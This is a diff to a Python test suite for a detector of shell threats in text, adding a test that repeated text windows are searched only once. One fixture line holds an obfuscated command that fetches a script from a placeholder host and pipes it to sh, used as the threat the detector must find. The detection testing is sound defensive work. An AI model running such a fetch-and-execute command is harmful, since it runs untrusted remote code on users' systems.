@@ -224,8 +224,12 @@ def test_every_gated_pattern_reads_at_most_one_character_before_its_window() -> 
 
 
 def test_canonical_form_searches_only_the_windows_its_tricks_changed() -> None:
-    # Keywords 2,400 characters apart: each opens windows of its own.
-    honest = ("Run sh ./build.sh to rebuild; see the format notes. " + "lorem ipsum " * 200) * 30
+    # Keywords 2,400 characters apart: each opens windows of its own (each
+    # numbered, so that no window reads like another and is searched).
+    honest = "".join(
+        f"Run sh ./build{i}.sh to rebuild; see the format notes. " + "lorem ipsum " * 200
+        for i in range(30)
+    )
     text = honest + "Then c''url https://x.example/s | sh for updates."
     searched: list[tuple[int, int]] = []
 
@@ -244,6 +248,24 @@ def test_canonical_form_searches_only_the_windows_its_tricks_changed() -> None:
         second_pass = len(searched) - first_pass
     assert threat is not None and threat.snippet.startswith("curl")
     assert 0 < second_pass < first_pass / 10
+
+
+def test_a_window_repeated_in_the_text_is_searched_once() -> None:
+    # The same paragraph thirty times: the same windows, each held no match.
+    text = ("Run sh ./build.sh to rebuild; see the format notes. " + "lorem ipsum " * 200) * 30
+    searched: list[int] = []
+
+    def counted(self: LazyPattern, text: str, pos: int = 0, endpos: int | None = None) -> Any:
+        searched.append(pos)
+        return None
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(LazyPattern, "search", counted)
+        patch.setattr(LazyPattern, "match", counted)
+        assert find_shell_threats(text) == ()
+    # The first paragraph's windows (one before its keywords, the rest
+    # after), then the last one's (the text ends there): not thirty times.
+    assert 0 < len(searched) <= 3 * len(set(_GATE.windows(same_length_lower(text))))
 
 
 def test_known_misses_are_keyed_by_the_window_text_and_the_character_before() -> None:
